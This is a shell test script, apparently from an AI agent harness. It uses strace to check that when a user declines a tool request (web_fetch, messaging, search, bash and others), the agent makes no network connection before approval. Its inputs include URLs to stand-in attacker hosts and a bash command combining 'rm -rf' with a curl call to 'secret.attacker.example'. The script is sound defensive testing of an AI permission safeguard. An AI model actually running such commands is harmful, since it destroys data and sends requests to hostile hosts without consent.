# An agent of a program that is served asks for what would leave the machine, and the answer is no. Has anything left by then? No name is looked up,
# and nothing is connected to, before the yes: for pages whose address the agent has put together, messages, searches, and what else opens an address.
needs strace python3
service
settings "$(jq -n --arg u "http://127.0.0.1:$port" '{tools: {web_fetch: {allow_hosts: ["127.0.0.1"]}}, channels: {hook: {type: "webhook", url: ($u + "/hook")}}}')"
file "$SCRATCH/c.py" <<'EOF'
import json, os, sys
sys.path.insert(0, os.environ["ATTACK"])
from client import *
answer, tool, input = sys.argv[1:]
c = Client(forms=accept if answer == "yes" else lambda m: {"action": "decline"})
print(json.dumps(c.call(tool, **json.loads(input)))); c.close()
EOF
traced() { # ANSWER TOOL INPUT: where it connects or sends to, by the kernel
	rm -f "$SCRATCH/trace"
	timeout 40 strace -f -qq -e trace=connect,sendto,sendmsg,sendmmsg -o "$SCRATCH/trace" python3 "$SCRATCH/c.py" "$@" >"$SCRATCH/out" 2>"$SCRATCH/err" </dev/null || true
	out=$(<"$SCRATCH/out")
	grep -E 'sin_port|sin6_port' "$SCRATCH/trace" >"$SCRATCH/sent" || true
	{ echo "== $*"; head -c 700 "$SCRATCH/out"; cat "$SCRATCH/sent"; } >>"$SCRATCH/log"
}
refused() { traced no "$@"; [ ! -s "$SCRATCH/sent" ] || broke "before anybody said yes to $1 $2: $(head -n 1 "$SCRATCH/sent")"; }
for u in "http://secret-word.attacker.example/x" "https://secret-word.attacker.example:8443/" "http://127.0.0.1:$port/secret" "http://127.0.0.1.nip.example/" "http://xn--secret-9ja.example/" "http://1.2.3.4/"; do
	refused web_fetch "$(jq -cn --arg u "$u" '{url: $u}')"
	refused web_fetch "$(jq -cn --arg u "$u" '{url: $u, method: "POST", body: "x", headers: {A: "b"}}')"
done
refused message '{"channel": "hook", "content": "hello"}'
refused web_search '{"query": "secret words"}'
refused open_external '{"target": "http://secret.attacker.example/"}'
refused bash '{"command": "rm -rf sub; curl http://secret.attacker.example/"}'
refused use_skill '{"name": "http://secret.attacker.example/"}'
refused register_project '{"path": "http://secret.attacker.example/"}'
traced yes web_fetch '{"url": "http://127.0.0.1:'"$port"'/yes"}'
[ -s "$SCRATCH/sent" ] || dead "not even after the yes anything is sent: $(head -c 400 "$SCRATCH/out")"
held
